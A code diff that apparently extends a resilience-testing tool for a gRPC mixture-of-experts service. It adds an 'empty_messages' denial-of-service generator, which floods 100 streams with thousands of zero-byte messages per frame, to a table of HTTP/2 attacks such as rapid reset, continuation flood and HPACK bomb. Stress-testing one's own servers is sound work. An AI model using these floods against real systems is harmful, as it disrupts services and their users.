@@ -18,7 +18,7 @@ DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING = 0, 1, 2, 3, 4, 6
 WINDOW_UPDATE, CONTINUATION = 8, 9
 END_STREAM, END_HEADERS = 1, 4
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-FORWARD = b"/moe.v1.ExpertService/Forward"
+FORWARD, FORWARD_STREAM = b"/moe.v1.ExpertService/Forward", b"/moe.v1.ExpertService/ForwardStream"
 
 
 def frame(kind, flags=0, stream=0, payload=b""):
@@ -109,10 +109,21 @@ def small_data_flood():
             yield frame(DATA, 0, stream, b"x") * 400
 
 
+def empty_messages():
+    """Whole messages without a byte, 3,000 in a frame, on 100 streams."""
+    streams = range(1, 201, 2)
+    yield begin() + b"".join(frame(HEADERS, END_HEADERS, stream, call_headers(FORWARD_STREAM))
+                             for stream in streams)
+    many = struct.pack(">BI", 0, 0) * 3000
+    while True:
+        for stream in streams:
+            yield frame(DATA, 0, stream, many)
+
+
 ATTACKS = {
     each.__name__.replace("_", "-"): each
     for each in (rapid_reset, continuation_flood, hpack_bomb, settings_flood, ping_flood,
-                 empty_data_flood, window_flood, open_streams, small_data_flood)
+                 empty_data_flood, window_flood, open_streams, small_data_flood, empty_messages)
 }
 
 # ---------------------------------------------------------------------------- running them
